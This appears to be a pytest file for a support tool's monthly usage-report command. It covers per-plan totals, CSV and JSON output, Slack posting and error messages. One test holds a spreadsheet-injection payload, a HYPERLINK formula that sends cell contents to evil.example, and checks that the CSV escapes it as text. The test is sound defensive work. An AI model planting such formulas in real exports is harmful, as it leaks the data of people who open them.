"""The monthly usage summary: a month of work on every kind of plan, then the real
``supportbot report usage`` command in a subprocess, and its customer-safe post."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from csv import DictReader
from datetime import UTC, datetime
from pathlib import Path

import pytest

from supportbot import cli
from supportbot.clock import TravelClock, set_clock
from supportbot.desk import tasks, work
from supportbot.incidents.access import Actor, Role
from supportbot.settings import Settings, get_settings
from tests.conftest import Desk
from tests.plans.conftest import INITECH_CHANNEL, INITECH_PETER
from tests.standins import SLACK_TOKEN, SlackStandin
from tests.support.records import ACME_ALICE, ACME_CHANNEL, GLOBEX_CHANNEL, GLOBEX_HANS, answer
from tests.support.slack_requests import STAFF

STAFF_ACTOR = Actor.staff_member(STAFF)


def cli_env(settings: Settings, tmp_path: Path) -> dict[str, str]:
    return {
        "DATABASE_URL": settings.database_url or "",
        "REDIS_URL": settings.redis_url or "",
        "SUPPORTBOT_CONTRACTS_FILE": str(settings.contracts_file),
        "SUPPORTBOT_DATA_DIR": str(tmp_path / "cli-var"),
        "SLACK_BOT_TOKEN": SLACK_TOKEN,
        "SLACK_API_URL": settings.slack_api_url,
    }


def report(settings: Settings, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The real command, in a subprocess."""
    env = {"PATH": os.environ.get("PATH", ""), **cli_env(settings, tmp_path)}
    command = [sys.executable, "-m", "supportbot", "report", "usage", *args]
    return subprocess.run(command, env=env, cwd=tmp_path, capture_output=True, text=True,
                          timeout=60)  # fmt: skip


@pytest.fixture
def usage(
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    clock: TravelClock,
) -> Iterator[Callable[..., tuple[int, str, str]]]:
    """The same command in this process (the same parser and code, without the start-up),
    on the test's clock."""
    monkeypatch.chdir(tmp_path)  # no .env of the developer's
    previous = set_clock(clock)
    for name, value in cli_env(settings, tmp_path).items():
        monkeypatch.setenv(name, value)

    def run(*args: str) -> tuple[int, str, str]:
        capsys.readouterr()
        get_settings.cache_clear()  # the settings of this test, not of an earlier one
        try:
            code = cli.main(["report", "usage", *args])
        except SystemExit as exc:  # argparse's usage errors exit, as they do from the shell
            code = int(exc.code or 0)
        out, err = capsys.readouterr()
        return code, out, err

    yield run
    get_settings.cache_clear()
    set_clock(previous)


def a_month_of_work(desk: Desk) -> None:
    rt, say = desk.rt, desk.slack.command
    # Acme: a prepaid-hours task, estimated, approved by a designated contact, logged.
    say("sev4 upgrade the search cluster", channel=ACME_CHANNEL, user=ACME_ALICE)
    tasks.estimate(rt, 1, STAFF_ACTOR, 390, "upgrade and reindex")
    tasks.decide(rt, 1, Actor(ACME_ALICE, Role.CONTACT, "acme"), approve=True)
    work.log_time(rt, 1, STAFF_ACTOR, 50, "reindexed the secret shards")
    # Globex: one incident waived, another worked past its 30 min span.
    say("sev3 the PDF is blank", channel=GLOBEX_CHANNEL, user=GLOBEX_HANS)
    tasks.waive(rt, 2, STAFF_ACTOR, "product defect")
    say("sev3 invoices are late", channel=GLOBEX_CHANNEL, user=GLOBEX_HANS)
    work.log_time(rt, 3, STAFF_ACTOR, 45)
    # Initech: a 2 h 40 min appointment; Umbrella: a call with two agents.
    say("sev3 on-site visit", channel=INITECH_CHANNEL, user=INITECH_PETER)
    work.log_time(rt, 4, STAFF_ACTOR, 160, appointment=True)
    assert "Opened *INC-5*" in answer(say("sev3 export question customer:umbrella"))
    work.log_time(rt, 5, STAFF_ACTOR, 25)
    work.log_time(rt, 5, Actor.staff_member("U0STAFF002"), 18)


def test_the_month_summarised_per_plan_and_incident(
    desk: Desk, settings: Settings, tmp_path: Path, usage: Callable[..., tuple[int, str, str]]
) -> None:
    a_month_of_work(desk)
    done = report(settings, tmp_path, "--month", "2026-12", "--format", "json")
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    totals = {t["customer"]: t for t in data["totals"]}
    assert totals["acme"]["used"] == 60 and totals["acme"]["unit"] == "minute"
    assert totals["acme"]["balance_at_month_end"] == "Hours: 9 h of 10 h left"
    assert (totals["globex"]["used"], totals["globex"]["waived"]) == (3, 1)
    assert totals["globex"]["amount"] == "300.00"  # 3 × 150.00 − 150.00 waived
    assert totals["initech"]["used"] == 7
    assert totals["initech"]["balance_at_month_end"] == "Pack: 3 of 10 left"
    assert (totals["umbrella"]["used"], totals["umbrella"]["amount"]) == (43, "107.50")
    lines = {line["incident"]: line for line in data["lines"]}
    assert lines["INC-1"]["estimate_h"] == 6.5 and lines["INC-1"]["minutes_worked"] == 50
    assert lines["INC-2"]["waiver_reasons"] == "product defect"
    assert lines["INC-4"]["used"] == 7 and lines["INC-4"]["minutes_worked"] == 160

    _, csv, _ = usage("--month", "2026-12", "--customer", "globex", "--format", "csv")
    assert csv.startswith("# supportbot usage 2026-12\n# month: local midnight")
    assert "line,globex,per_incident,INC-2," in csv and "acme" not in csv
    # The totals sit under the header's own columns (they were joined by hand, shifted by
    # two columns, zeros left blank and a balance's comma splitting its cell).
    rows = list(DictReader(line for line in csv.splitlines() if not line.startswith("#")))
    [total] = [row for row in rows if row["section"] == "total"]
    assert (total["plan"], total["unit"], total["used"], total["waived"], total["over"]) == (
        "per_incident", "incident", "3", "1", "0",
    )  # fmt: skip
    assert total["balance_at_month_end"] == "Per incident: 2 charged this month (300.00 EUR)"
    assert [row["incident"] for row in rows if row["section"] == "line"] == ["INC-2", "INC-3"]
    _, csv, _ = usage("--month", "2026-12", "--customer", "initech", "--format", "csv")
    [total] = [r for r in DictReader(csv.splitlines()[6:]) if r["section"] == "total"]
    assert total["balance_at_month_end"] == "Pack: 3 of 10 left"
    _, table, _ = usage("--month", "2026-11")
    assert "(nothing used)" in table

    # Work in January leaves December's balance at its month end as it was (it read the
    # whole term, so a report run later in the term showed the later work too).
    desk.rt.clock.set(datetime(2027, 1, 5, 15, 0, tzinfo=UTC))  # type: ignore[attr-defined]
    work.log_time(desk.rt, 1, STAFF_ACTOR, 120, "second pass")
    _, december, _ = usage("--month", "2026-12", "--customer", "acme", "--format", "json")
    [hours] = [t for t in json.loads(december)["totals"] if t["plan"] == "prepaid_hours"]
    assert hours["balance_at_month_end"] == "Hours: 9 h of 10 h left"
    _, january, _ = usage("--month", "2027-01", "--customer", "acme", "--format", "json")
    [hours] = [t for t in json.loads(january)["totals"] if t["plan"] == "prepaid_hours"]
    assert (hours["used"], hours["balance_at_month_end"]) == (120, "Hours: 7 h of 10 h left")


def test_the_customer_safe_post_goes_once(
    desk: Desk, slack_api: SlackStandin, usage: Callable[..., tuple[int, str, str]]
) -> None:
    a_month_of_work(desk)
    # December has not ended: a post now would freeze half a month as the month's only post.
    code, _, said = usage("--month", "2026-12", "--customer", "acme", "--post")
    assert "acme: not posted: 2026-12 has not ended in" in said
    assert not [m for m in slack_api.messages(channel=ACME_CHANNEL)
                if m["text"].startswith("*Support usage")]  # fmt: skip
    desk.rt.clock.set(datetime(2027, 1, 2, 9, 0, tzinfo=UTC))  # type: ignore[attr-defined]
    code, _, said = usage("--month", "2026-12", "--customer", "acme", "--post")
    assert code == 0 and "acme: posted to C0ACMESHARED" in said
    _, _, again = usage("--month", "2026-12", "--customer", "acme", "--post")
    assert "acme: already posted" in again
    [post] = [m for m in slack_api.messages(channel=ACME_CHANNEL)
              if m["text"].startswith("*Support usage")]  # fmt: skip
    assert post["text"] == (
        "*Support usage for Acme Corp, December 2026*\n"
        "• prepaid hours: used 1 h. Hours: 9 h of 10 h left\n"
        "  – INC-1 upgrade the search cluster: 1 h, estimate 6.5 h"
    )
    assert STAFF not in post["text"] and "secret shards" not in post["text"]


def test_bad_months_and_customers_are_one_line(
    desk: Desk, usage: Callable[..., tuple[int, str, str]]
) -> None:
    code, _, said = usage("--month", "2026-13")
    assert code == 2  # argparse's usage error, as for every malformed period
    assert said.strip().splitlines()[-1] == (
        "supportbot report: error: argument --month: '2026-13' is not a month: the month must "
        "be from 01 to 12"
    )
    code, _, said = usage("--week", "2026-W48")
    assert code == 2 and said.strip().splitlines()[-1] == (
        "supportbot report: error: report usage takes --month only: plans are used and "
        "summarised per calendar month"
    )
    code, _, said = usage("--month", "2026-12", "--customer", "nope")
    assert code == 1 and said.count("\n") == 1
    known = "acme, globex, initech, umbrella, hooli, wonka, soylent"
    assert f"unknown customer 'nope'; known customers: {known}" in said


def test_the_report_needs_no_redis_and_post_says_why_it_cannot(desk: Desk, tmp_path: Path) -> None:
    """Reading the month is the database's work alone, as for the other reports; only
    ``--post`` reaches Slack, and without a runtime it says so in one line, no traceback."""
    a_month_of_work(desk)
    env = {"PATH": os.environ.get("PATH", ""), **cli_env(desk.rt.settings, tmp_path)}
    env.pop("REDIS_URL")
    command = [sys.executable, "-m", "supportbot", "report", "usage", "--month", "2026-12"]
    read = subprocess.run(command, env=env, cwd=tmp_path, capture_output=True, text=True,
                          timeout=60)  # fmt: skip
    assert read.returncode == 0, read.stderr
    assert "initech" in read.stdout and "Traceback" not in read.stderr
    posted = subprocess.run([*command, "--post"], env=env, cwd=tmp_path, capture_output=True,
                            text=True, timeout=60)  # fmt: skip
    assert posted.returncode == 1 and "Traceback" not in posted.stderr
    assert posted.stderr.strip().endswith(
        "supportbot: error: --post needs REDIS_URL, the Redis the web and worker share "
        "(supportbot run's embedded one is private to it); nothing posted"
    )


def test_a_title_written_as_a_formula_is_text_in_the_csv(
    desk: Desk, usage: Callable[..., tuple[int, str, str]]
) -> None:
    """A customer's contact writes the title; the billing person opens the CSV in a
    spreadsheet, which ran `=HYPERLINK(…)` (or `+`, `-`, `@` …) as a formula on their
    machine. The cell now starts with a quote, as spreadsheets read text; JSON keeps the
    title as written."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    desk.slack.command(f"sev3 {formula}", channel=GLOBEX_CHANNEL, user=GLOBEX_HANS)
    desk.slack.command("sev3 @SUM(1+1)", channel=GLOBEX_CHANNEL, user=GLOBEX_HANS)
    tasks.waive(desk.rt, 2, STAFF_ACTOR, "product defect")
    _, csv, _ = usage("--month", "2026-12", "--customer", "globex", "--format", "csv")
    rows = list(DictReader(line for line in csv.splitlines() if not line.startswith("#")))
    lines = {row["incident"]: row for row in rows if row["section"] == "line"}
    assert lines["INC-1"]["title"] == f"'{formula}"
    assert lines["INC-2"]["title"] == "'@SUM(1+1)"
    assert lines["INC-2"]["amount"] == "0.00"  # a number is left as it is
    _, data, _ = usage("--month", "2026-12", "--customer", "globex", "--format", "json")
    assert json.loads(data)["lines"][0]["title"] == formula
